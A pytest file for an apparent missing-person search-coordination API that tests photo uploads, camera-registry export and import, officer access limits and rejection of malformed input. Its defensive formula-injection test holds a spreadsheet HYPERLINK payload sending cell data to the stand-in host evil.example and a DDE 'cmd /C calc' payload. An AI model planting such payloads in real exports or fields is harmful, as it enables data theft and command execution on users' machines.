"""Review fixes through the API: multi-picture JPEGs, metadata kinds, the whole registry exported and guarded
against spreadsheet formulas, owner contacts kept from officers, the registry an officer may read, junk input."""
import csv
import io
import json

import pytest
from PIL import Image

from search_coord.adapters.models import Camera, Photo
from search_coord.core import camera_table
from search_coord.services import camera_files
from search_coord.services.context import Actor
from search_coord.services.video import cameras as video_cameras
from support import LKP


def encode(img, fmt, **kw) -> bytes:
    out = io.BytesIO()
    img.save(out, fmt, **kw)
    return out.getvalue()


def upload_photo(c, data, name="p.jpg"):
    return c.client.post("/api/v1/photos", data={"photo": (io.BytesIO(data), name)},
                         headers={"X-CSRF-Token": c.token})


def test_a_multi_picture_jpeg_upload_is_stored_as_a_jpeg(app, login):
    c = login("off1")
    ex = Image.Exif()
    ex[0x8825] = {1: "N", 2: (39.0, 54.0, 0.0), 3: "E", 4: (116.0, 18.0, 0.0)}
    for extra in ({}, {"exif": ex.tobytes()}):
        data = encode(Image.new("RGB", (80, 60), (200, 20, 20)), "MPO", save_all=True,
                      append_images=[Image.new("RGB", (80, 60), (20, 200, 20))], **extra)
        r = upload_photo(c, data)
        assert r.status_code == 201, r.get_json()
        assert r.get_json()["mime"] == "image/jpeg" and r.get_json()["converted"]
        got = c.get(f"/api/v1/photos/{r.get_json()['id']}")
        img = Image.open(io.BytesIO(got.data))
        assert img.format == "JPEG" and img.size == (80, 60) and "mp" not in img.info
    r = upload_photo(c, data[:len(data) // 3])
    assert r.status_code == 400 and "photo" in r.get_json()["errors"]
    with app.extensions["search_coord"].reading() as s:
        assert s.query(Photo).count() == 2


def test_a_jpeg_comment_is_not_served_to_other_members(opened, login):
    sid, disp = opened
    off1 = login("off1")
    data = encode(Image.new("RGB", (80, 60), (200, 20, 20)), "JPEG", comment=b"secret note")
    r = off1.client.post("/api/v1/photos", data={"photo": (io.BytesIO(data), "p.jpg"), "search_id": str(sid)},
                         headers={"X-CSRF-Token": off1.token})
    assert r.status_code == 201, r.get_json()
    got = disp.get(f"/api/v1/photos/{r.get_json()['id']}")
    assert got.status_code == 200 and b"secret" not in got.data


def import_file(c, raw: bytes, fmt: str):
    return c.client.post(f"/api/v1/cameras/import?format={fmt}", data=raw,
                         headers={"X-CSRF-Token": c.token, "Content-Type": "text/csv" if fmt == "csv"
                                  else "application/geo+json"})


def camera_count(app) -> int:
    with app.extensions["search_coord"].reading() as s:
        return s.query(Camera).count()


def test_the_export_holds_every_camera_read_a_page_at_a_time(app, login, monkeypatch):
    monkeypatch.setattr(camera_files, "EXPORT_PAGE", 3, raising=False)
    monkeypatch.setattr(video_cameras, "DISPATCHER_PAGE_MAX", 4)   # what the export stopped at before
    disp = login("disp")
    rows = [f"E{i:02d},Gate {i},116.{3000 + i},39.9,shop" for i in range(10)]
    assert import_file(disp, "\n".join(["code,name,lon,lat,kind"] + rows).encode(), "csv").status_code == 200
    disp.patch(f"/api/v1/cameras/{disp.get('/api/v1/cameras?active=all').get_json()[0]['id']}", {"active": False})
    r = disp.get("/api/v1/cameras/export?format=csv")
    assert r.status_code == 200 and r.is_streamed
    got = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert [row[0] for row in got[1:]] == [f"E{i:02d}" for i in range(10)]   # inactive too, in code order
    geo = disp.get("/api/v1/cameras/export?format=geojson")
    assert geo.status_code == 200 and geo.is_streamed
    feats = json.loads(geo.data)["features"]
    assert [f["properties"]["code"] for f in feats] == [f"E{i:02d}" for i in range(10)]
    assert feats[0]["properties"]["active"] is False and feats[1]["geometry"]["coordinates"] == [116.3001, 39.9]
    assert set(feats[1]["properties"]) == {"code", "name", "kind", "owner", "contact", "direction_deg", "fov_deg",
                                           "range_m", "retention_days", "clock_offset_s", "offset_measured_at",
                                           "covers_exit", "notes", "active"}
    svc = app.extensions["search_coord"]
    for n in (9, 10, 11):   # a last page short, full, or empty
        monkeypatch.setattr(camera_files, "EXPORT_PAGE", n)
        chunks, _ = camera_files.export_cameras(svc, _actor(app, disp), "csv")
        assert not isinstance(chunks, str)
        assert len(list(csv.reader(io.StringIO("".join(chunks).lstrip("\ufeff"))))) == 11
    assert disp.get("/api/v1/cameras/export?format=xls").status_code == 400
    assert login("off1").get("/api/v1/cameras/export?format=csv").status_code == 403


def _actor(app, client):
    return Actor(user_id=client.user["id"], role=client.user["role"])


FORMULAS = {"name": '=HYPERLINK("http://evil.example/?"&B3,"Open map")', "owner": "+cmd|' /C calc'!A0",
            "contact": "@SUM(1+1)", "notes": "-2+3"}


def test_the_csv_export_guards_formulas_and_reads_back_the_same_text(login):
    disp = login("disp")
    made = [{"code": "=F1", "location": [-0.1, -51.5], "kind": "shop", "clock_offset_s": -35, **FORMULAS},
            {"code": "F2", "name": "'=already quoted", "location": [116.3, 39.9], "kind": "shop",
             "owner": "'plain quote", "contact": "\u5317\u95e8 -1", "notes": "ok"}]
    for cam in made:
        assert disp.post("/api/v1/cameras", cam).status_code == 201
    r = disp.get("/api/v1/cameras/export?format=csv")
    rows = {row[0]: dict(zip(camera_table.COLUMNS, row))
            for row in list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))[1:]}
    f1 = rows["'=F1"]
    assert (f1["name"], f1["owner"], f1["contact"], f1["notes"]) == tuple("'" + FORMULAS[k] for k in
                                                                          ("name", "owner", "contact", "notes"))
    assert (f1["lon"], f1["lat"], f1["clock_offset_s"]) == ("-0.1", "-51.5", "-35.0")   # numbers as they are
    assert rows["F2"]["name"] == "''=already quoted" and rows["F2"]["owner"] == "''plain quote"
    assert rows["F2"]["contact"] == "\u5317\u95e8 -1"
    before = {c["code"]: c for c in disp.get("/api/v1/cameras?active=all").get_json()}
    again = import_file(disp, r.data, "csv")
    assert again.status_code == 200 and again.get_json()["updated"] == 2, again.get_json()
    after = {c["code"]: c for c in disp.get("/api/v1/cameras?active=all").get_json()}
    for code in before:
        for key in ("name", "owner", "contact", "notes", "location", "clock_offset_s"):
            assert after[code][key] == before[code][key], (code, key)


@pytest.mark.parametrize("raw, where", [
    (b"[" * 50000, "_body"),
    (('{"type": "FeatureCollection", "features": [' + "[" * 50000 + "]" * 50000 + "]}").encode(),
     "_body"),
    (json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": LKP},
         "properties": {"code": "S1", "name": "x\ud800", "kind": "shop"}}]}).encode(), "row 1.properties.name"),
    (json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": LKP},
         "properties": {"code": "S1", "name": "x", "kind": ["shop"], "owner": {"a": 1}}}]}).encode(), "row 1.kind"),
], ids=["deep", "deep-feature", "lone-surrogate", "kind-list"])
def test_junk_geojson_is_a_400_and_stores_nothing(app, login, raw, where):
    disp = login("disp")
    r = import_file(disp, raw, "geojson")
    assert r.status_code == 400, r.data[:300]
    assert where in r.get_json()["errors"], r.get_json()
    assert camera_count(app) == 0


@pytest.mark.parametrize("junk", [[], {}, ["area"], {"area": 1}, 3, True], ids=repr)
def test_a_list_or_object_where_a_choice_is_expected_is_a_400(opened, login, junk):
    sid, disp = opened
    geometry = {"type": "Polygon", "coordinates": [[[LKP[0], LKP[1]], [LKP[0] + 0.001, LKP[1]],
                                                    [LKP[0] + 0.001, LKP[1] + 0.001], [LKP[0], LKP[1]]]]}
    before = disp.get(f"/api/v1/searches/{sid}/events?after=0").get_json()["events"]
    for url, body, field in (
            (f"/api/v1/searches/{sid}/assignments", {"title": "A", "kind": junk, "geometry": geometry}, "kind"),
            (f"/api/v1/searches/{sid}/teams", {"name": "T", "kind": junk}, "kind"),
            (f"/api/v1/searches/{sid}/clues", {"kind": junk, "text": "x", "location": LKP}, "kind"),
            (f"/api/v1/searches/{sid}/broadcasts", {"kind": junk, "text": "x"}, "kind"),
            ("/api/v1/searches", {"subject": {"name": "A", "category": "dementia"}, "lkp": LKP,
                                  "lkp_time": "2026-11-28T17:30:00+08:00", "risk": "high",
                                  "risk_reasons": [junk]}, "risk_reasons")):
        r = disp.post(url, body)
        assert r.status_code == 400, (url, r.data[:300])
        assert field in r.get_json()["errors"], (url, r.get_json())
    assert disp.get(f"/api/v1/searches/{sid}/events?after=0").get_json()["events"] == before


def test_a_camera_added_during_a_search_is_announced_without_its_owners_contacts(opened, login):
    sid, disp = opened
    r = disp.post("/api/v1/cameras", {"code": "S1", "name": "Shop door", "kind": "shop", "search_id": sid,
                                      "location": [LKP[0] + 0.0005, LKP[1]], "owner": "Mr Li",
                                      "contact": "138 0000 0000"})
    assert r.status_code == 201 and r.get_json()["contact"] == "138 0000 0000"   # the dispatcher's own answer
    for who in (login("off1"), disp):
        evs = who.get(f"/api/v1/searches/{sid}/events?after=0").get_json()["events"]
        added = [e for e in evs if e["type"] == "camera.added"]
        assert len(added) == 1 and added[0]["payload"]["camera"]["code"] == "S1"
        assert "owner" not in added[0]["payload"]["camera"] and "contact" not in added[0]["payload"]["camera"]
    assert disp.get("/api/v1/cameras").get_json()[0]["contact"] == "138 0000 0000"   # in the registry


def test_an_officer_reads_only_the_cameras_of_a_search_they_are_on(opened, login):
    sid, disp = opened
    for code, dx in (("N1", 0.001), ("N2", 0.003), ("FAR", 8.0)):
        assert disp.post("/api/v1/cameras", {"code": code, "name": code, "kind": "shop", "notes": "gate code 1234",
                                             "location": [LKP[0] + dx, LKP[1]]}).status_code == 201
    other = disp.post("/api/v1/searches", {**_search_body(), "lkp": [LKP[0] + 8.0, LKP[1]]}).get_json()["id"]
    off1, off2 = login("off1"), login("off2")
    for c in (off1, off2):   # on no search, or naming none: nothing of the registry
        for url in ("/api/v1/cameras", f"/api/v1/cameras?bbox={LKP[0] - 0.1},{LKP[1] - 0.1},{LKP[0] + 8.1},"
                                       f"{LKP[1] + 0.1}", "/api/v1/cameras?limit=500&offset=500"):
            r = c.get(url)
            assert r.status_code == 400 and "search_id" in r.get_json()["errors"], url
    assert off2.get(f"/api/v1/cameras?search_id={sid}").status_code == 403
    assert off1.get(f"/api/v1/cameras?search_id={other}").status_code == 403
    assert [c["code"] for c in off1.get(f"/api/v1/cameras?search_id={sid}").get_json()] == ["N1", "N2"]
    world = off1.get(f"/api/v1/cameras?search_id={sid}&bbox=-180,-90,180,90")
    assert [c["code"] for c in world.get_json()] == ["N1", "N2"] and world.headers["X-Total-Count"] == "2"
    narrow = off1.get(f"/api/v1/cameras?search_id={sid}&bbox={LKP[0]},{LKP[1] - 0.01},{LKP[0] + 0.002},"
                      f"{LKP[1] + 0.01}")
    assert [c["code"] for c in narrow.get_json()] == ["N1"]
    assert [c["code"] for c in disp.get("/api/v1/cameras").get_json()] == ["FAR", "N1", "N2"]   # dispatchers: all


def _search_body():
    return {"subject": {"name": "Li Mei", "category": "dementia", "sex": "female", "age": 70},
            "lkp_time": "2026-11-28T17:30:00+08:00", "lkp_time_confirmed": True, "risk": "high"}
